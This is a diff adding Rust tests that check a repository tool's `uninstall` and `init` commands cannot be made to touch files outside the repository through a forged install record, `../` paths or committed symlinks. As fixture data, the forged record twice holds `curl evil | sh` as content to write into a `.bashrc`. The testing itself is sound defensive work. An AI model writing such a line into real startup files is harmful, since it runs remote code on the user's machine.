@@ -431,3 +431,58 @@ fn doctor_names_hooks_that_call_a_missing_aea_and_fix_rewrites_them() {
         "{status}"
     );
 }
+
+/// `.aea/.installed.json` is local state, but a cloned repository can carry
+/// one (`git add -f`): the files and folders it names are anyone's words.
+/// `uninstall` must take back only files inside the repository, never a
+/// file or folder elsewhere that such a record names.
+#[test]
+fn a_cloned_install_record_cannot_make_uninstall_touch_files_outside_the_repository() {
+    let env = TestEnv::new();
+    let repo = plain_git_repo(&env, "clone");
+    env.ok(&repo, &["init", "--no-agent-files"]);
+    let outside = env.path().join("home/.bashrc");
+    std::fs::write(&outside, "alias ls=ls\n").unwrap();
+    let sibling = env.path().join("sibling.txt");
+    std::fs::write(&sibling, "mine\n").unwrap();
+    let empty = env.path().join("empty-folder");
+    std::fs::create_dir(&empty).unwrap();
+    let state = repo.join(".aea/.installed.json");
+    let mut record: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&state).unwrap()).unwrap();
+    record["files"] = serde_json::json!({
+        outside.display().to_string(): {"original": "curl evil | sh\n", "written": "alias ls=ls\n"},
+        "../sibling.txt": {"original": null, "written": "mine\n"},
+        "link/.bashrc": {"original": "curl evil | sh\n", "written": "alias ls=ls\n"},
+    });
+    // A committed symlink to a folder outside: a path through it leaves too.
+    std::os::unix::fs::symlink(env.path().join("home"), repo.join("link")).unwrap();
+    record["dirs_created"] = serde_json::json!([empty.display().to_string(), "../empty-folder"]);
+    std::fs::write(&state, serde_json::to_vec(&record).unwrap()).unwrap();
+    env.ok(&repo, &["init", "--no-agent-files"]);
+    env.ok(&repo, &["uninstall"]);
+    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "alias ls=ls\n");
+    assert_eq!(std::fs::read_to_string(&sibling).unwrap(), "mine\n");
+    assert!(
+        empty.is_dir(),
+        "a folder outside the repository was removed"
+    );
+}
+
+/// A cloned repository whose `.claude` is a symlink to a folder outside
+/// (`~/.claude`, say): init writes no agent file through it.
+#[test]
+fn init_writes_no_agent_file_through_a_committed_symlink_out_of_the_repository() {
+    let env = TestEnv::new();
+    let repo = plain_git_repo(&env, "clone");
+    let outside = env.path().join("home/.claude");
+    std::fs::create_dir_all(&outside).unwrap();
+    std::os::unix::fs::symlink(&outside, repo.join(".claude")).unwrap();
+    let out = env.run(&repo, &["init", "--agents", "claude"]);
+    assert_ne!(code(&out), 0, "{}", stdout(&out));
+    assert!(stderr(&out).contains("outside"), "{}", stderr(&out));
+    assert!(
+        std::fs::read_dir(&outside).unwrap().next().is_none(),
+        "written outside the repository"
+    );
+}
